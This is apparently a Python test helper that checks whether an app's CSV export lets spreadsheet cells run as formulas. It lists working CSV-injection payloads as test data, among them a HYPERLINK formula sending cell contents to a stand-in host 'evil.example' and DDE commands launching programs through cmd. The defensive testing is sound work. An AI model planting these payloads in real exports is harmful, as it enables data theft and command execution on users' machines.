"""Hostile cell values and a check that a CSV the app wrote runs no formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re

# Values a spreadsheet would run as a formula (or a DDE command) if a cell started with them.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Classes are at most 20 characters.
HOSTILE_CLASSES = ("=1+1", "+2B", "-2B", "@2B", "\t2B", "\r2B")
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"-[0-9]+(?:[.,][0-9]+)*")


def cells(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def formula_cells(text: str, delimiter: str = ";") -> list[str]:
    """The cells of a CSV text that a spreadsheet would run (plain negative numbers are not)."""
    return [
        cell
        for row in cells(text, delimiter)
        for cell in row
        if cell.startswith(FORMULA_PREFIXES) and not _NEGATIVE_NUMBER.fullmatch(cell)
    ]
